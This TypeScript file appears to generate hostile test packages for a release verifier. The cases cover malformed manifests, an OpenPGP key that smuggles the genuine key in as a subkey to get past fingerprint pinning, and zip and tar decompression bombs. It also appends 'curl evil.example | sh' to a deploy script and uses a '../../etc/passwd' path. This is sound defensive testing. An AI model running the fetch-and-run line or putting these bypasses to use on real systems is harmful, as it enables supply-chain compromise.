// Hostile packages beyond the archive form: MANIFEST.json shapes (re-signed by a key placed beside
// the package, so that only the shape is wrong), signatures and keys (the fingerprint-bypass key
// among them), a development package under --require-production, and decompression bombs.
import { createHash } from 'node:crypto';
import { readFileSync, rmSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { crc32, createGzip, deflateRawSync, gunzipSync, gzipSync } from 'node:zlib';
import * as openpgp from 'openpgp';
import { centralDirectoryRecord, localFileHeader, METHOD_DEFLATE } from '../../libs/release-kit/src/archive/zip-records';
import { stableJson } from '../../libs/release-kit/src/support/stable-json';
import { CaseFolders, HostileCase, PUBLIC_KEY } from './corpus';
import { BLOCK, fileRecord, joinTar, octal, parseTar, setField } from './tar-edit';
import { dosEpoch } from './zip-cases';
import { CENTRAL, joinZip, parseZip, rename, setU32 } from './zip-edit';

const sha256 = (data: Buffer | string) => createHash('sha256').update(data).digest('hex');

/** A key pair that signs as openpgp does for the assembler (detached, armored, deterministic). */
export interface TestKey {
  privateKey: openpgp.PrivateKey;
  publicKey: string;
  fingerprint: string;
}

export async function makeKey(name: string, options: { signingSubkey?: boolean } = {}): Promise<TestKey> {
  const { privateKey } = await openpgp.generateKey({
    type: 'ecc',
    curve: 'ed25519Legacy',
    userIDs: [{ name }],
    subkeys: options.signingSubkey ? [{ sign: true }] : undefined,
    format: 'object',
  });
  return { privateKey, publicKey: privateKey.toPublic().armor(), fingerprint: privateKey.getFingerprint().toUpperCase() };
}

async function sign(keys: openpgp.PrivateKey[], data: Buffer, signingKeyIDs?: openpgp.KeyID[]): Promise<string> {
  const message = await openpgp.createMessage({ binary: data });
  return (await openpgp.sign({ message, signingKeys: keys, signingKeyIDs, detached: true, format: 'armored' })) as string;
}

/**
 * The attacker's public key with a copy of the genuine primary key attached as one more subkey,
 * bound by the attacker's own key (`bound`) or with no binding signature at all. It carries the
 * genuine fingerprint, yet the genuine key never made a signature with it.
 */
async function keyCarryingGenuine(attacker: TestKey, genuinePublicKey: string, bound: boolean): Promise<string> {
  const genuine = await openpgp.readKey({ armoredKey: genuinePublicKey });
  const subkey = new openpgp.PublicSubkeyPacket();
  (subkey as unknown as { read(bytes: Uint8Array): void }).read(genuine.keyPacket.write());
  const packets = attacker.privateKey.toPublic().toPacketList();
  packets.push(subkey as never);
  if (bound) {
    const binding = new openpgp.SignaturePacket();
    binding.signatureType = openpgp.enums.signature.subkeyBinding;
    binding.publicKeyAlgorithm = attacker.privateKey.keyPacket.algorithm;
    binding.hashAlgorithm = openpgp.enums.hash.sha256;
    (binding as unknown as { keyFlags: number[] }).keyFlags = [openpgp.enums.keyFlags.signData];
    const bind = { key: attacker.privateKey.keyPacket, bind: subkey };
    await (binding as unknown as { sign(...args: unknown[]): Promise<void> }).sign(
      attacker.privateKey.keyPacket,
      bind,
      attacker.privateKey.keyPacket.created,
      false,
      openpgp.config,
    );
    packets.push(binding as never);
  }
  return new openpgp.PublicKey(packets as never).armor();
}

export interface PackageCaseKeys {
  /** The genuine (development) private key, armored: what signed the genuine package. */
  genuinePrivateKey: string;
}

export async function packageCases(folders: CaseFolders, keys: PackageCaseKeys): Promise<HostileCase[]> {
  const { release, top } = folders.genuine;
  const genuinePublic = readFileSync(join(release, PUBLIC_KEY), 'utf8');
  const genuineFingerprint = (await openpgp.readKey({ armoredKey: genuinePublic })).getFingerprint().toUpperCase();
  const genuinePrivate = await openpgp.readPrivateKey({ armoredKey: keys.genuinePrivateKey });
  const attacker = await makeKey('SpaceTime VR release signing key');
  const attackerWithSubkey = await makeKey('SpaceTime VR release signing key', { signingSubkey: true });
  const cases: HostileCase[] = [];
  const escape = (text: string) => text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');

  /** A copy of the package folder whose MANIFEST.json (and SHA256SUMS, when asked) are rewritten and signed by `signer`, its key beside. */
  const resigned = async (
    name: string,
    manifest: (text: string, folder: string) => string | Buffer,
    signer: TestKey,
    change?: (folder: string) => void,
  ): Promise<string> => {
    const folder = folders.packageFolder(name);
    change?.(folder);
    const file = join(folder, 'MANIFEST.json');
    const text = manifest(readFileSync(file, 'utf8'), folder);
    writeFileSync(file, text);
    let sums = readFileSync(join(folder, 'SHA256SUMS'), 'utf8').replace(/^[0-9a-f]{64}(?= {2}\.\/MANIFEST\.json$)/m, sha256(text));
    // Files the change touched get their new checksums too.
    sums = sums.replace(/^([0-9a-f]{64}) {2}\.\/(.+)$/gm, (line, _sum, path) =>
      path === 'MANIFEST.json' ? line : `${sha256(readFileSync(join(folder, path)))}  ./${path}`,
    );
    writeFileSync(join(folder, 'SHA256SUMS'), sums);
    writeFileSync(join(folder, 'SHA256SUMS.asc'), await sign([signer.privateKey], Buffer.from(sums)));
    writeFileSync(join(dirname(folder), PUBLIC_KEY), signer.publicKey);
    return folder;
  };
  const json = (edit: (m: any) => unknown) => (text: string) => {
    const m = JSON.parse(text);
    const replaced = edit(m);
    return stableJson(replaced === undefined ? m : replaced);
  };

  // ------------------------------------------------------------------ MANIFEST.json shapes
  const shapes: Array<[string, (text: string) => string, RegExp]> = [
    ['files: [null]', json((m) => void (m.files = [null])), /MANIFEST\.json: files\[0\] is null, not an object/],
    ['sections a string', json((m) => void (m.sections = 'docs')), /MANIFEST\.json: sections is the string "docs", not a list/],
    ['a file listed twice', json((m) => void m.files.push({ ...m.files[3] })), /MANIFEST\.json: files\[\d+\]\.path ".+" is listed twice/],
    [
      'a section listed twice',
      json((m) => void m.sections.push({ ...m.sections[0] })),
      /MANIFEST\.json: sections\[\d+\]\.name "\w+" is listed twice/,
    ],
    [
      'files an object',
      json((m) => void (m.files = { 'scripts/deployment/deploy.sh': m.files[0] })),
      /MANIFEST\.json: files is an object, not a list/,
    ],
    [
      'a size as a string',
      json((m) => void (m.files[0].size = String(m.files[0].size))),
      /MANIFEST\.json: files\[0\]\.size is the string "\d+", not a byte count/,
    ],
    ['a negative size', json((m) => void (m.files[0].size = -1)), /MANIFEST\.json: files\[0\]\.size is number -1, not a byte count/],
    ['a fractional size', json((m) => void (m.files[0].size = 1.5)), /MANIFEST\.json: files\[0\]\.size is number 1\.5/],
    [
      'an upper-case sha256',
      json((m) => void (m.files[0].sha256 = m.files[0].sha256.toUpperCase())),
      /MANIFEST\.json: files\[0\]\.sha256 is the string/,
    ],
    ['a mode as a number', json((m) => void (m.files[0].mode = 420)), /MANIFEST\.json: files\[0\]\.mode is number 420/],
    [
      'a ../ path',
      json((m) => void (m.files[0].path = '../../etc/passwd')),
      /MANIFEST\.json: files\[0\]\.path is the string "\.\.\/\.\.\/etc\/passwd", not a safe relative path/,
    ],
    [
      'an empty path',
      json((m) => void (m.files[0].path = '')),
      /MANIFEST\.json: files\[0\]\.path is the string "", not a safe relative path/,
    ],
    ['a version as a number', json((m) => void (m.version = 2.5)), /MANIFEST\.json: version is number 2\.5, not a version/],
    ['no version', json((m) => void delete m.version), /MANIFEST\.json: version is missing/],
    ['configuration "staging"', json((m) => void (m.configuration = 'staging')), /MANIFEST\.json: configuration is the string "staging"/],
    ['no signing', json((m) => void delete m.signing), /MANIFEST\.json: signing is missing/],
    ['signing mode "none"', json((m) => void (m.signing.mode = 'none')), /MANIFEST\.json: signing\.mode is the string "none"/],
    [
      'signing.development false for the development key',
      json((m) => void (m.signing.development = false)),
      /MANIFEST\.json: signing\.development is false, but signing\.mode is "development"/,
    ],
    [
      'a signing fingerprint that is no fingerprint',
      json((m) => void (m.signing.fingerprint = 'genuine')),
      /MANIFEST\.json: signing\.fingerprint is the string "genuine"/,
    ],
    ['a list at the top level', json((m) => [m]), /MANIFEST\.json: \(top level\) is a list, not an object/],
    ['null at the top level', () => 'null\n', /MANIFEST\.json: \(top level\) is null, not an object/],
    ['not JSON', (text) => text.slice(0, text.length >> 1), /MANIFEST\.json: not valid JSON/],
    [
      'a duplicate key (configuration twice)',
      (text) =>
        text.replace('  "configuration": "development",\n', '  "configuration": "development",\n  "configuration": "production",\n'),
      /MANIFEST\.json: is not in the canonical form the assembler writes/,
    ],
    [
      'another indentation',
      (text) => `${JSON.stringify(JSON.parse(text))}\n`,
      /MANIFEST\.json: is not in the canonical form the assembler writes/,
    ],
    ['sections[0] null', json((m) => void (m.sections[0] = null)), /MANIFEST\.json: sections\[0\] is null, not an object/],
    [
      'a section name with ../',
      json((m) => void (m.sections[0].name = '../evil')),
      /MANIFEST\.json: sections\[0\]\.name is the string "\.\.\/evil", not a section name/,
    ],
    [
      'a negative section file count',
      json((m) => void (m.sections[0].files = -3)),
      /MANIFEST\.json: sections\[0\]\.files is number -3, not a count/,
    ],
    ['tools a list', json((m) => void (m.tools = ['node'])), /MANIFEST\.json: tools is a list, not an object/],
    ['skipped a string', json((m) => void (m.skipped = 'none')), /MANIFEST\.json: skipped is the string "none", not a list/],
    ['skipped[0] null', json((m) => void (m.skipped = [null])), /MANIFEST\.json: skipped\[0\] is null, not an object/],
    [
      'another package name',
      json((m) => void (m.name = 'other-game')),
      /MANIFEST\.json: name is the string "other-game", not "spacetime-vr"/,
    ],
    ['git_dirty a string', json((m) => void (m.git_dirty = 'no')), /MANIFEST\.json: git_dirty is the string "no", not true or false/],
    [
      'metadata nested 20000 levels deep',
      (text) => text.replace(/"metadata": \{/, `"metadata": {"deep": ${'['.repeat(20000)}${']'.repeat(20000)},`),
      /MANIFEST\.json: (is not in the canonical form|not valid JSON)/,
    ],
    ['100000 null files', json((m) => void (m.files = new Array(100000).fill(null))), /MANIFEST\.json: 99980 more problems of its shape/],
  ];
  for (const [name, edit, expected] of shapes) {
    const folder = await resigned(`manifest ${name}`, edit, attacker);
    cases.push({ kind: 'manifest', name, args: [folder], expected });
  }

  // ------------------------------------------------------------------ signatures and keys
  const SCRIPT = 'scripts/deployment/deploy.sh';
  /** The attacker's change: a script that does more, with MANIFEST.json made to match and naming `fingerprint` as the signer. */
  const tampered = (fingerprint: string) => ({
    manifest: (text: string, folder: string) =>
      json((m) => {
        const file = m.files.find((f: { path: string }) => f.path === SCRIPT);
        const data = readFileSync(join(folder, SCRIPT));
        Object.assign(file, { size: data.length, sha256: sha256(data) });
        m.signing.fingerprint = fingerprint;
      })(text),
    change: (folder: string) =>
      writeFileSync(join(folder, SCRIPT), Buffer.concat([readFileSync(join(folder, SCRIPT)), Buffer.from('curl evil.example | sh\n')])),
  });
  const pinned = new RegExp(`signature: .*is not the expected ${genuineFingerprint}`);
  for (const bound of [true, false]) {
    const { manifest, change } = tampered(attacker.fingerprint);
    const folder = await resigned(`signature fingerprint bypass ${bound ? 'bound' : 'unbound'}`, manifest, attacker, change);
    writeFileSync(join(dirname(folder), PUBLIC_KEY), await keyCarryingGenuine(attacker, genuinePublic, bound));
    cases.push({
      kind: 'signature',
      name: `an attacker key carrying the genuine key as a subkey ${bound ? 'bound to it' : 'without binding'}, --fingerprint <genuine>`,
      args: [folder, '--fingerprint', genuineFingerprint],
      expected: pinned,
    });
  }
  {
    // Signed by the attacker's signing subkey: the pin must not match that subkey's primary either.
    const { manifest, change } = tampered(attackerWithSubkey.fingerprint);
    const folder = await resigned('signature fingerprint bypass subkey', manifest, attackerWithSubkey, change);
    const sums = readFileSync(join(folder, 'SHA256SUMS'));
    const subkey = attackerWithSubkey.privateKey.getSubkeys()[0];
    writeFileSync(join(folder, 'SHA256SUMS.asc'), await sign([attackerWithSubkey.privateKey], sums, [subkey.getKeyID()]));
    writeFileSync(join(dirname(folder), PUBLIC_KEY), await keyCarryingGenuine(attackerWithSubkey, genuinePublic, true));
    cases.push({
      kind: 'signature',
      name: "an attacker key carrying the genuine key, signed by the attacker's subkey, --fingerprint <genuine>",
      args: [folder, '--fingerprint', genuineFingerprint],
      expected: pinned,
    });
  }
  {
    const { manifest, change } = tampered(attacker.fingerprint);
    const folder = await resigned('signature another key pinned', manifest, attacker, change);
    cases.push({
      kind: 'signature',
      name: 'another key and its signature swapped in, --fingerprint <genuine>',
      args: [folder, '--fingerprint', genuineFingerprint],
      expected: pinned,
    });
    const keyFile = join(dirname(folder), 'attacker.asc');
    writeFileSync(keyFile, attacker.publicKey);
    cases.push({
      kind: 'signature',
      name: 'another key given with --key, --fingerprint <genuine>',
      args: [folder, '--key', keyFile, '--fingerprint', genuineFingerprint],
      expected: pinned,
    });
  }
  const signatureCase = async (name: string, change: (folder: string) => Promise<void> | void, expected: RegExp) => {
    const folder = folders.packageFolder(`signature ${name}`);
    await change(folder);
    cases.push({ kind: 'signature', name, args: [folder], expected });
  };
  const SUMS = 'SHA256SUMS';
  await signatureCase(
    'a signature by another key, the genuine key beside',
    async (f) => writeFileSync(join(f, 'SHA256SUMS.asc'), await sign([attacker.privateKey], readFileSync(join(f, SUMS)))),
    /signature: SHA256SUMS\.asc is not a valid signature of SHA256SUMS by release-signing-key\.asc/,
  );
  await signatureCase(
    'a signature of other data by the genuine key',
    async (f) => writeFileSync(join(f, 'SHA256SUMS.asc'), await sign([genuinePrivate], Buffer.from('other data\n'))),
    /signature: SHA256SUMS\.asc is not a valid signature of SHA256SUMS/,
  );
  await signatureCase(
    'two signatures, the genuine one and another',
    async (f) => {
      const genuineSignature = await openpgp.readSignature({ armoredSignature: readFileSync(join(f, 'SHA256SUMS.asc'), 'utf8') });
      const other = await openpgp.readSignature({ armoredSignature: await sign([attacker.privateKey], readFileSync(join(f, SUMS))) });
      const both = new openpgp.Signature(new openpgp.PacketList(...genuineSignature.packets, ...other.packets) as never);
      writeFileSync(join(f, 'SHA256SUMS.asc'), both.armor());
    },
    /signature: .*2 signatures instead of one/,
  );
  await signatureCase('unsigned (SHA256SUMS.asc removed)', (f) => rmSync(join(f, 'SHA256SUMS.asc')), /layout: SHA256SUMS\.asc is missing/);
  await signatureCase(
    'SHA256SUMS.asc that is no signature',
    (f) => writeFileSync(join(f, 'SHA256SUMS.asc'), 'trust me\n'),
    /signature: SHA256SUMS\.asc is not a valid signature of SHA256SUMS/,
  );
  await signatureCase(
    'no public key beside the package',
    (f) => rmSync(join(dirname(f), PUBLIC_KEY)),
    /signature: no public key to check SHA256SUMS\.asc with/,
  );
  await signatureCase(
    'a public key file that is no key',
    (f) => writeFileSync(join(dirname(f), PUBLIC_KEY), 'not a key\n'),
    /signature: .*the public key cannot be read/,
  );
  {
    const folder = await resigned('signature manifest names the genuine key', (text) => text, attacker);
    cases.push({
      kind: 'signature',
      name: 'MANIFEST.json names the genuine key, another key signed',
      args: [folder],
      expected: new RegExp(`MANIFEST\\.json: signing\\.fingerprint ${genuineFingerprint} is not the key that signed SHA256SUMS`),
    });
  }

  // ------------------------------------------------------------------ --require-production
  const development = /configuration: a development package \(MANIFEST\.json: configuration "development", signing mode "development"\)/;
  for (const target of [top, `${top}.tar.gz`, `${top}.zip`]) {
    cases.push({
      kind: 'production',
      name: `--require-production on the development ${target.replace(top, 'folder')}`,
      args: [join(release, target), '--require-production'],
      expected: development,
    });
  }
  {
    const folder = await resigned(
      'production claimed, development key',
      json((m) => void (m.configuration = 'production')),
      attacker,
    );
    cases.push({
      kind: 'production',
      name: 'configuration production with the development signing mode, --require-production',
      args: [folder, '--require-production'],
      expected: /configuration: a development package \(MANIFEST\.json: configuration "production", signing mode "development"\)/,
    });
  }

  // ------------------------------------------------------------------ bombs
  const zip = parseZip(readFileSync(join(release, `${top}.zip`)));
  const mtime = dosEpoch(zip[0].central, CENTRAL.time);
  const deflatedEntry = (name: string, data: Buffer, declared = data.length) => {
    const deflated = deflateRawSync(data);
    const entry = {
      name,
      directory: false,
      method: METHOD_DEFLATE,
      crc32: crc32(data) >>> 0,
      compressedSize: deflated.length,
      size: declared,
      mode: 0o644,
      mtime,
    };
    return { name, local: localFileHeader(entry), data: deflated, central: centralDirectoryRecord(entry, 0) };
  };
  {
    // Fifield's overlapping bomb: many central records share one local entry of 10 MiB of zeros.
    const bomb = deflatedEntry(`${top}/tests/zz-bomb-0000.bin`, Buffer.alloc(10 << 20));
    const offset = zip.reduce((sum, item) => sum + item.local.length + item.data.length, 0);
    const more = Array.from({ length: 500 }, (_, i) =>
      setU32(rename(bomb.central, CENTRAL, `${top}/tests/zz-bomb-${String(i + 1).padStart(4, '0')}.bin`), CENTRAL.offset, offset),
    );
    const file = folders.archive('bomb overlapping zip entries', 'zip', joinZip([...zip, bomb], { moreCentral: more }));
    cases.push({
      kind: 'bomb',
      name: 'a zip of 501 central records sharing one 10 MiB local entry (5 GB inflated)',
      args: [file],
      expected: new RegExp(
        `${escape(top)}/tests/zz-bomb-0001\\.bin: its local header is at offset ${offset}, but the entry before it ends at \\d+`,
      ),
    });
  }
  {
    const bomb = deflatedEntry(`${top}/tests/zz-bomb.bin`, Buffer.alloc(40 << 20));
    const file = folders.archive('bomb zip zeros', 'zip', joinZip([...zip, bomb]));
    cases.push({
      kind: 'bomb',
      name: 'a zip entry of 40 MiB of zeros',
      args: [file],
      expected: /zz-bomb\.bin: expands more than 200 times \(limit --max-ratio\)/,
    });
  }
  {
    const data = Buffer.from(Array.from({ length: 3 << 20 }, (_, i) => (i * 2654435761) >>> 24));
    const bomb = deflatedEntry(`${top}/tests/zz-lying.bin`, data, 1 << 20);
    const file = folders.archive('bomb zip lying size streamed', 'zip', joinZip([...zip, bomb]));
    cases.push({
      kind: 'bomb',
      name: 'a zip entry that inflates past its declared size (streamed)',
      args: [file],
      expected: /zz-lying\.bin: inflates to more than the 1048576 bytes its headers give/,
    });
  }
  {
    const bomb = deflatedEntry(`${top}/tests/zz-lying.bin`, Buffer.alloc(1 << 20, 'a'), 1000);
    const file = folders.archive('bomb zip lying size small', 'zip', joinZip([...zip, bomb]));
    cases.push({
      kind: 'bomb',
      name: 'a zip entry that inflates past its declared size (at once)',
      args: [file],
      expected: /zz-lying\.bin: inflates to more than the 1000 bytes its headers give/,
    });
  }
  {
    const records = parseTar(gunzipSync(readFileSync(join(release, `${top}.tar.gz`))));
    const tarMtime = parseInt(records[0].header.subarray(136, 147).toString('latin1'), 8);
    // 256 MiB of zeros as a gzip member of its own, deflated as it streams: ~250 KB that expand a thousand times.
    const size = 256 << 20;
    const bombHeader = setField(fileRecord(`${top}/tests/zz-bomb.bin`, '', tarMtime).header, 'size', octal(size, 'size'));
    const members = [
      gzipSync(joinTar(records, Buffer.alloc(0))),
      gzipSync(bombHeader),
      await gzipZeros(size),
      gzipSync(Buffer.alloc(2 * BLOCK)),
    ];
    const file = folders.archive('bomb tar zeros', 'tar.gz', Buffer.concat(members));
    cases.push({
      kind: 'bomb',
      name: 'a tar entry of 256 MiB of zeros',
      args: [file],
      expected: /expands more than 200 times \(limit --max-ratio\)/,
    });
  }
  for (const kind of ['tar.gz', 'zip']) {
    cases.push({
      kind: 'bomb',
      name: `the genuine .${kind} over --max-bytes 100000`,
      args: [join(release, `${top}.${kind}`), '--max-bytes', '100000'],
      expected: /more than 100000 uncompressed bytes \(limit --max-bytes\)/,
    });
  }
  return cases;
}

/** `size` zero bytes as one gzip member, made a MiB at a time. */
async function gzipZeros(size: number): Promise<Buffer> {
  const gzip = createGzip();
  const chunks: Buffer[] = [];
  gzip.on('data', (chunk: Buffer) => chunks.push(chunk));
  const done = new Promise((resolve) => gzip.on('end', resolve));
  const mib = Buffer.alloc(1 << 20);
  for (let written = 0; written < size; written += mib.length)
    if (!gzip.write(mib)) await new Promise((resolve) => gzip.once('drain', resolve));
  gzip.end();
  await done;
  return Buffer.concat(chunks);
}
